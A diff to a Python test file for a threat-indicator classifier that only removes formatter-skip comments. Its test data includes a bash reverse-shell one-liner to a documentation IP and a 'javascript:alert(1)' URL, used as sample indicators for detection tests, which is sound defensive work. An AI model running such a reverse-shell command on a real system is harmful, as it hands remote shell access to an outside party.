@@ -24,7 +24,7 @@ from rampart_threat.analysis.domain import IndicatorTooLarge, InvalidIndicator, 
             "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
             "sha256",
             "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
-        ),  # fmt: skip
+        ),
         ("bash -i >& /dev/tcp/192.0.2.1/4444 0>&1", "payload", "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"),
         ("javascript:alert(1)", "url", "javascript:alert(1)"),
     ],
@@ -45,7 +45,7 @@ def test_the_type_is_detected_and_the_indicator_normalised(raw: str, subtype: st
         ("under_score..com", Kind.DOMAIN),
         ("   ", None),
         ("https://a.example:99999/", None),
-    ],  # fmt: skip
+    ],
 )
 def test_a_malformed_indicator_is_refused(raw: str, kind: Kind | None) -> None:
     with pytest.raises(InvalidIndicator):
